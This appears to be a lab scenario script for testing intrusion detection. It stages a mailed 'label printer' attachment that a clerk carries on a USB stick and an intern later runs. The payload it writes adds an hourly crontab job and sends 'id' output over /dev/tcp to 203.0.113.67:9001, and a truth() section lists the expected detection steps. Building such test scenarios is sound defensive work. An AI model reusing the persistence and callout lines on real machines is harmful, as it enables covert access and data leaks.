title="An attachment carried on a stick and run by somebody else two days later"
what="clerk saves label-printer.run with alpine and copies it to /media/stick, a mount that no audit rule watches, and deletes the own copy. Two days later the intern runs it from the stick with bash; it connects to 203.0.113.67 port 9001 and leaves ~/.config/lp/agent.sh with a crontab."
host=ws3.example.org user=intern daemons="cron sshd" store=mbox shift_plan="arrive:2h save:5h between:43h run:30m"
setup() {
  mkdir -p /media; mountpoint -q /media || mount -t tmpfs lab-media /media; mkdir -p /media/stick; chmod 1777 /media/stick
  printf '#!/bin/bash\n# label printer 3.1\nmkdir -p ~/.config/lp\nprintf "#!/bin/sh\\ntrue\\n" > ~/.config/lp/agent.sh\n(crontab -l 2>/dev/null; echo "@hourly sh ~/.config/lp/agent.sh") | crontab -\nexec 3<>/dev/tcp/203.0.113.67/9001; id >&3; exec 3>&-\n' > "$base/out/label-printer.run"
  printf 'inbox-path=/var/mail/clerk\nfeature-list=enable-msg-view-attachments\nlast-version-used=6.26\n' > /home/clerk/.pinerc; mkdir -p /home/clerk/mail; chown -R clerk: /home/clerk
}
act() {
  phase arrive
  mail_in --from labels@example.net --to clerk@example.org --subject "Driver for your label printer" --source 203.0.113.62 --helo host62.example.net --attach "$base/out/label-printer.run:application/octet-stream"
  wait_mail clerk 1
  phase save
  ssh_as clerk <<'L'
%saves alpine
ls
cp label-printer.run /media/stick/
rm label-printer.run
L
  phase between
  small_talk 3
  phase run
  ssh_as intern <<'L'
ls /media/stick
cd /media/stick
bash label-printer.run
%sleep 1
lpstat -a 2>/dev/null; date
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'delivered'
  file_step save 'alpine .*/home/clerk/.*label-printer.run' 'saved'
  exec_step carry 'cp label-printer.run /media/stick/' 'copied to the stick'
  exec_step execute 'bash label-printer.run' 'the intern runs it'
  exec_step job 'crontab -' 'it leaves a job'
  net_step beacon 'bash 203.0.113.67:9001' 'it calls out'
}
